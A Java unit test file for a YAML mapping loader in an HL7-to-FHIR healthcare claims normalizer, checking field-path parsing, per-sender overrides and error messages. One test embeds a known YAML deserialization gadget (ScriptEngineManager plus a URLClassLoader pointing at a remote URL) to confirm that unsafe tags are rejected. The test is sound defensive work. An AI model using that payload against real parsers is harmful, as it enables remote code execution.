package io.claimbridge.normalize.mapping;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.ZoneId;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.claimbridge.model.Canonical;

class MappingLoaderTest {

    @TempDir
    Path dir;

    private Path copyDefaults() throws IOException {
        Files.copy(Path.of("mappings/default.yaml"), dir.resolve("default.yaml"));
        Files.copy(Path.of("mappings/code-systems.yaml"), dir.resolve("code-systems.yaml"));
        Files.createDirectories(dir.resolve("senders"));
        return dir;
    }

    private Path sender(String name, String yaml) throws IOException {
        Path f = dir.resolve("senders").resolve(name + ".yaml");
        Files.writeString(f, yaml);
        return f;
    }

    @Test
    void repositoryMappingsLoad() {
        Mappings m = MappingLoader.load(Path.of("mappings"));
        assertThat(m.configuredSenders()).contains("ACME_EAST", "GENERAL_HOSPITAL");
        SenderMapping acme = m.forSender("ACME_EAST");
        assertThat(acme.path(MappedField.VISIT_NUMBER)).contains(FieldPath.parse("PID-18"));
        assertThat(acme.path(MappedField.ATTENDING_NPI)).contains(new FieldPath("ZPV", 2, 1, 1));
        assertThat(acme.path(MappedField.ADMIT_DATETIME)).contains(FieldPath.parse("PV1-44")); // inherited
        assertThat(acme.timeZone()).isEqualTo(ZoneId.of("America/New_York"));
        assertThat(acme.defaultSystem(CodeContext.PROCEDURE)).isEqualTo(Canonical.CPT);
        assertThat(acme.defaultSystem(CodeContext.DIAGNOSIS)).isEqualTo(Canonical.ICD10CM);
        assertThat(acme.patientClass("I").claimType()).isEqualTo(ClaimKind.INSTITUTIONAL);
        assertThat(acme.patientClass("X").encounterClass()).isEqualTo("AMB");
        assertThat(m.forSender("GENERAL_HOSPITAL").codeSystems().uriFor("hcpt")).isEqualTo(Canonical.HCPCS);
        assertThat(m.forSender("OTHER").codeSystems().uriFor("HCPT")).isEqualTo("http://nucc.org/provider-taxonomy");
        assertThat(m.forSender("OTHER").codeSystems().uriFor("99LOCAL")).isEqualTo("http://claimbridge.io/fhir/sid/local/OTHER/99LOCAL");
        assertThat(m.forSender("OTHER").defaultSystem(CodeContext.CHARGE)).isNull();
    }

    @Test
    void badFieldPathNamesFileAndLine() throws IOException {
        copyDefaults();
        Path f = sender("BAD", "# comment\nfields:\n  visitNumber: PID-18\n  attendingNpi: ZPV2\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).isInstanceOf(MappingException.class)
                .hasMessageStartingWith(f + ":4:").hasMessageContaining("'ZPV2' is not a field path");
    }

    @Test
    void unknownSegmentAndFieldNumberAreErrors() throws IOException {
        copyDefaults();
        Path f = sender("BAD", "fields:\n  visitNumber: PXD-18\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessage(f + ":2: unknown segment 'PXD' in 'PXD-18'");
        sender("BAD", "fields:\n  visitNumber: PV1-99\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessage(f + ":2: PV1 has no field 99 (max 54)");
    }

    @Test
    void unknownKeysAreErrors() throws IOException {
        copyDefaults();
        Path f = sender("BAD", "fields:\n  visitNo: PV1-19\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessageStartingWith(f + ":2: unknown field 'visitNo'");
        sender("BAD", "defaults:\n  timezone: UTC\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessageStartingWith(f + ":2: unknown key 'defaults.timezone'");
        sender("BAD", "feilds:\n  visitNumber: PV1-19\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessageStartingWith(f + ":1: unknown key 'feilds'");
        sender("BAD", "patientClasses:\n  I: {encounterClass: INPATIENT, claimType: institutional}\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessageStartingWith(f + ":2: encounterClass must be one of");
        sender("BAD", "events:\n  A01: admitt\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessageStartingWith(f + ":2: unknown ledger event 'admitt'");
        sender("BAD", "defaults:\n  billingProvider:\n    npi: 12345\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessage(f + ":3: npi must be 10 digits");
    }

    @Test
    void yamlSyntaxAndUnsafeTagsAreErrors() throws IOException {
        copyDefaults();
        Path f = sender("BAD", "fields:\n  visitNumber: [PV1-19\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).isInstanceOf(MappingException.class).hasMessageStartingWith(f + ":");
        sender("BAD", "fields: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).isInstanceOf(MappingException.class).hasMessageStartingWith(f + ":1:");
    }

    @Test
    void senderCanForceTheClaimForm() throws IOException {
        copyDefaults();
        sender("HOSP_OP", "fields:\n  visitNumber: PID-18\ndefaults:\n  claimType: institutional\n");
        var n = new io.claimbridge.normalize.hl7v2.Hl7v2Normalizer(MappingLoader.load(dir));
        var claim = n.normalize(io.claimbridge.normalize.Samples.read("acme_east_a04_v251.hl7"), "HOSP_OP").encounter().claim();
        // outpatient (PV1-2 = O) billed on the facility form: 837I, type of bill 013 + frequency 1
        assertThat(claim.getType().getCodingFirstRep().getCode()).isEqualTo("institutional");
        assertThat(claim.getExtensionByUrl(Canonical.EXT_TYPE_OF_BILL).getValue().primitiveValue()).isEqualTo("0131");
    }

    @Test
    void perStructureFieldsApplyToThatStructureOnly() throws IOException {
        copyDefaults();
        // This sender puts the visit number in PID-18 on charge messages only.
        sender("SPLIT", "structures:\n  DFT_P03:\n    fields:\n      visitNumber: PID-18\n");
        var n = new io.claimbridge.normalize.hl7v2.Hl7v2Normalizer(MappingLoader.load(dir));
        assertThat(n.normalize(io.claimbridge.normalize.Samples.read("dft_p03_v251.hl7"), "SPLIT").visitNumber()).isEqualTo("A7788990");
        assertThat(n.normalize(io.claimbridge.normalize.Samples.read("adt_a08_v251.hl7"), "SPLIT").visitNumber()).isEqualTo("V100234");
        Path f = sender("SPLIT", "structures:\n  DFT-P03:\n    fields:\n      visitNumber: PID-18\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessage(f + ":2: 'DFT-P03' is not a message structure (e.g. ADT_A01, DFT_P03)");
        sender("SPLIT", "structures:\n  DFT_P03:\n    fields:\n      visitNumber: FT1-99\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessage(f + ":4: FT1 has no field 99 (max 55)");
    }

    @Test
    void payerAddressIsReadFromEachIn1AtTheConfiguredField() throws IOException {
        copyDefaults();
        // This sender puts the insurance company's address in IN1-7 (its phone field) instead of IN1-5.
        sender("MOVED", "fields:\n  payerAddress: IN1-7\n");
        var n = new io.claimbridge.normalize.hl7v2.Hl7v2Normalizer(MappingLoader.load(dir));
        String raw = io.claimbridge.normalize.Samples.read("adt_a01_v23.hl7")
                .replace("|BLUE CROSS NC||||", "|BLUE CROSS NC|PO BOX 1^^CARY^NC^27511||PO BOX 2291^^DURHAM^NC^27702|");
        var ce = n.normalize(raw, "MOVED").encounter();
        var bcbs = ce.organizations().stream().filter(o -> "BLUE CROSS NC".equals(o.getName())).findFirst().orElseThrow();
        assertThat(bcbs.getAddress()).extracting(a -> a.getLine().get(0).getValue()).containsExactly("PO BOX 2291");

        Path f = sender("MOVED", "fields:\n  payerAddress: PID-11\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessage(f + ":2: payerAddress is read from each IN1"
                + " segment: its path must be an IN1 field (e.g. IN1-5), not PID");
        sender("MOVED", "structures:\n  DFT_P03:\n    fields:\n      payerAddress: GT1-5\n");
        assertThatThrownBy(() -> MappingLoader.load(dir)).hasMessageStartingWith(f + ":4: payerAddress is read from each IN1");
    }

    @Test
    void fieldPathSyntax() {
        assertThat(FieldPath.parse("PID-18")).isEqualTo(new FieldPath("PID", 18, 1, 1));
        assertThat(FieldPath.parse("ZPV-2.1")).isEqualTo(new FieldPath("ZPV", 2, 1, 1));
        assertThat(FieldPath.parse("PV1-7.2.1")).isEqualTo(new FieldPath("PV1", 7, 2, 1));
        assertThatThrownBy(() -> FieldPath.parse("PID.18")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> FieldPath.parse("pid-18")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> FieldPath.parse("PID-0")).isInstanceOf(IllegalArgumentException.class);
    }
}
